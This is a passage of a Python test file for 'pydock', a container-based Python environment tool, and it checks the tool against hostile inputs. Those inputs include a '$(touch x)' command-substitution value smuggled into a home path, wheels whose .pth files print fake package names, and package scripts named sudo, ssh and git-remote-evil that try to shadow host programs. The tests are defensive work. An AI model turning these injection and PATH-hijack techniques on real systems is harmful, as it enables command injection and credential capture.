        for tag in ("007", "0", "00", "1_0", "9" * 40):
            engine("tag", self.prefix + "-e:latest", "%s-e:%s" % (self.prefix, tag))
        engine("build", "-q", "-t", self.prefix + "-e:5", "--label", "pydock.time=yesterday", "-", input="FROM %s-e:latest\n" % self.prefix)
        for argv in (["history", "e"], ["list"], ["list", "--all"], ["prune"], ["completion", "--words", "rollback", "e", ""], ["snapshot", "e", "good"],
                ["rollback", "e", "007"], ["install", "e", str(make_wheel(self.base / "dist", "plain"))], ["run", "e", "true"]):
            with self.subTest(argv):
                self.guarded_by_time(*argv)

    def guarded_by_time(self, *argv: str, **options: Any) -> Result:
        result = self.run_pydock(*argv, timeout=120, **options)
        self.assertNotIn("bug in pydock", result.err, result)
        self.assertIn(result.status, (0, 1, 2), result)
        return result

    def test_bundles_with_a_header_of_gigabytes(self) -> None:
        for number, (kind, size) in enumerate(((tarfile.XHDTYPE, 6 << 30), (tarfile.GNUTYPE_LONGNAME, 6 << 30), (tarfile.GNUTYPE_LONGLINK, 1 << 33),
                (tarfile.XGLTYPE, 6 << 30), (tarfile.REGTYPE, 6 << 30), (tarfile.GNUTYPE_SPARSE, 6 << 30))):
            path = self.work / ("bundle%d.tar" % number)
            member = tarfile.TarInfo("e/dockerfile")
            member.type, member.size = kind, size
            with open(path, "wb") as file:
                file.write(member.tobuf(tarfile.GNU_FORMAT))
                file.truncate(size + 4096)
            for argv in (["create", "n", "--from", str(path)], ["-n", "create", "n", "--from", str(path)]):
                with self.subTest(kind=kind, argv=argv):
                    result = self.guarded(*argv)
                    self.assertEqual(result.status, 1, result)
            path.unlink()

    def test_packages_behind_a_link_have_no_digest(self) -> None:
        """It would be that of the link, whatever is behind it; podman reads what is behind it."""
        self.ok("clone", "e", "odd")
        before = self.ok("digest", "odd")
        engine("build", "-q", "-t", self.prefix + "-odd:latest", "-", input="FROM %s-odd:latest\nUSER 0\nRUN mv /opt/venv /opt/other && ln -s other /opt/venv && echo >/opt/other/new\n" % self.prefix)
        if is_podman():
            self.assertNotEqual(self.ok("digest", "odd"), before)
            return
        self.fails("digest", "odd", says="is no folder", hint="pydock build odd")

    def test_an_answer_that_never_ends(self) -> None:
        """What an image's own shell says, where it is asked for its programs."""
        real, fake = shutil.which(ENGINE[-1]), self.base / "endless" / ENGINE[-1]
        fake.parent.mkdir()
        fake.write_text("#!/bin/sh\n[ \"$1\" != run ] || exec yes\nulimit -v unlimited  # podman needs more\nexec %s \"$@\"\n" % real, encoding="utf-8")
        fake.chmod(0o755)
        self.environ["PATH"] = str(fake.parent) + os.pathsep + os.environ["PATH"]
        self.addCleanup(self.no_fake)
        self.assertIn("is too large", self.guarded("link", "e", "python").err)

    def test_the_values_of_a_started_environment_are_the_users_own(self) -> None:
        self.environ["STARTED"] = SECRET
        old = os.umask(0)
        try:
            self.fake()
            self.ok("start", "-e", "TOKEN=" + SECRET, "e")
        finally:
            os.umask(old)
        self.addCleanup(self.run_pydock, "stop", "--force", "e")
        for path in (self.home / ".local").rglob("*"):
            if path.is_file() and SECRET.encode() in path.read_bytes():
                self.assertEqual(stat.S_IMODE(path.stat().st_mode) & 0o077, 0, path)

    def test_homes_that_path_or_a_text_cannot_hold(self) -> None:
        for name in ("a:b", "@NAME@", "@BIN@", "x'y", "$(touch x)", "a b", "-n"):
            home = self.base / "homes" / name
            home.mkdir(parents=True)
            options: Dict[str, Any] = {"environ": {"HOME": str(home), "PYDOCK_PREFIX": self.prefix + "h"}}
            self.ok("create", "e", **options)
            with self.subTest(name):
                result = self.run_pydock("activate", "--shell", "sh", "e", **options)
                try:
                    if result.status:
                        self.assertIn("pydock: error: ", result.err)
                        continue
                    shown = subprocess.run(["/bin/sh", "-c", result.out + "\ncommand -v python3; echo $PYDOCK_ENV"], cwd=self.work,
                            env={**self.environ, "HOME": str(home)}, stdout=subprocess.PIPE, text=True, timeout=TIME).stdout
                    self.assertIn(str(home), shown)
                    self.assertIn("\ne\n", shown)
                finally:
                    self.run_pydock("delete", "-y", "--force", "e", **options)

    def test_a_full_stderr(self) -> None:
        if not os.path.exists("/dev/full"):
            self.skipTest("no /dev/full here")
        for argv in (["install", "e", str(make_wheel(self.base / "dist", "full"))], ["run", "e", "true"], ["uninstall", "e", "full"], ["list"]):
            with self.subTest(argv), open("/dev/full", "w") as full:
                process = self.start(*argv, stderr=full)
                process.communicate(timeout=120)
                self.assertEqual(process.returncode, 0)
        self.assert_agree("e")

    def test_a_package_whose_pth_prints(self) -> None:
        self.ok("create", "p")
        make_wheel(self.base / "dist", "printer", files={"printer.pth": "import sys; print('9.9.9 evil==6.6.6'); sys.stdout.flush()\n"})
        make_wheel(self.base / "dist", "later", files={"later.pth": "import atexit; atexit.register(print, 'pydock-found: 9.9.9 evil==6.6.6')\n"})
        for name in ("printer", "later"):
            self.run_pydock("install", "p", str(self.base / "dist" / (name + "-1.0-py3-none-any.whl")))
            row = self.listed()["p"]
            self.assertNotIn("9.9.9", json.dumps(row))
            self.assertNotIn("evil", engine("image", "inspect", "--format", "{{json .Config.Labels}}", self.prefix + "-p:latest"))
        self.assertIn("later", self.requirements("p"))

    def test_activation_leaves_the_hosts_programs_alone(self) -> None:
        names = "sudo su doas ssh scp gpg git docker podman pydock direnv sh bash zsh fish env login passwd git-remote-evil docker-credential-evil podman-remote newuidmap ssh-askpass honest".split()
        make_wheel(self.base / "dist", "shims", files={"shims-1.0.data/scripts/" + name: "#!/bin/sh\necho from the environment\n" for name in names})
        self.ok("create", "s")
        self.ok("install", "s", str(self.base / "dist" / "shims-1.0-py3-none-any.whl"))
        result = self.run_pydock("activate", "--shell", "sh", "s")
        self.addCleanup(self.run_pydock, "stop", "--force", "s")
        self.assertEqual(result.status, 0, result)
        folder = next((self.home / ".local" / "share" / "pydock").glob("*-s/bin"))
        self.assertEqual(set(names) & set(os.listdir(folder)), {"honest"})
        self.assertIn("sudo", result.err)
        self.ok("link", "s", "git", "--to", str(self.base / "linked"))
        done = subprocess.run([str(self.base / "linked" / "git")], cwd=self.work, env=self.environ, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                text=True, timeout=TIME)
        self.assertEqual(done.stdout, "from the environment\n")

    def test_what_activation_runs_here_comes_from_no_package(self) -> None:
        """Programs that the activated text and the programs themselves start on the host are named by absolute path."""
        self.ok("activate", "--shell", "sh", "e")
        self.addCleanup(self.run_pydock, "stop", "--force", "e")
        trap = self.base / "trap"
        trap.mkdir()
        for name in ("rm", "sleep", "setsid", "grep", "tr", "sed", "cat", "id", "sh", "kill", "ps", "find"):
            (trap / name).write_text("#!/bin/sh\necho %s >>%s\nexit 1\n" % (name, shlex.quote(str(self.marker()))), encoding="utf-8")
            (trap / name).chmod(0o755)
        path = "%s:%s" % (trap, self.environ["PATH"])
        text = self.ok("activate", "--shell", "sh", "e")
        subprocess.run(["/bin/sh", "-c", text + "\npython3 -c pass\ndeactivate\n"], cwd=self.work, env={**self.environ, "PATH": path},
                stdin=subprocess.DEVNULL, timeout=TIME)
        self.assertEqual(self.marker().exists() and self.marker().read_text(encoding="utf-8"), False)

    def test_in_a_deleted_folder(self) -> None:
        for argv in (["export", "e", "x.tar"], ["install", "e", "./x"], ["run", "e", "true"], ["create", "n", "--from", "./x.tar"],
                ["install", "e", "-r", "x.txt"], ["start", "e"], ["list"], ["--local", "list"]):
            gone = self.base / "gone"
            gone.mkdir(exist_ok=True)
            with self.subTest(argv):
                script = 'cd "$1" && rmdir "$1" && shift && exec "$@"'
                done = subprocess.run(["/bin/sh", "-c", script, "sh", str(gone), *self.program, *argv], env=self.environ, stdin=subprocess.DEVNULL,
                        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, timeout=TIME)
                self.assertNotIn("Traceback", done.stderr)
                self.assertNotIn("[Errno", done.stderr)
                self.assertNotIn("bug in pydock", done.stderr)

    def test_the_installation_by_a_pipe_runs_nothing_of_the_folder(self) -> None:
        folder = self.base / "repository" / "install"
        folder.mkdir(parents=True)
        for file in (folder / "bash", folder.parent / "bash"):
            file.write_text("", encoding="utf-8")
        for name in ("pydock.py", "python3", "curl"):
            for where in (folder, folder.parent):
                (where / name).write_text("#!/bin/sh\n''':'\ntouch %s\n':'''\nopen(%r, 'w')\n" % (shlex.quote(str(self.marker())), str(self.marker())),
                        encoding="utf-8")
                (where / name).chmod(0o755)
        text = (ROOT / "install" / "linux.sh").read_text(encoding="utf-8")
        for cwd in (folder, folder.parent):
            for path in ("/usr/bin:/bin", *["%s:/usr/bin:/bin" % folder] * (os.geteuid() == 0)):
                subprocess.run(["bash", "-s", "--", "--prefix", str(self.base / "installed")], input=text, cwd=cwd,
                        env={**self.environ, "PATH": path, "https_proxy": "http://127.0.0.1:1"}, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                        text=True, timeout=TIME)
                self.assertFalse(self.marker().exists(), (cwd, path))
                self.assertFalse((self.base / "installed" / "bin" / "pydock").exists())
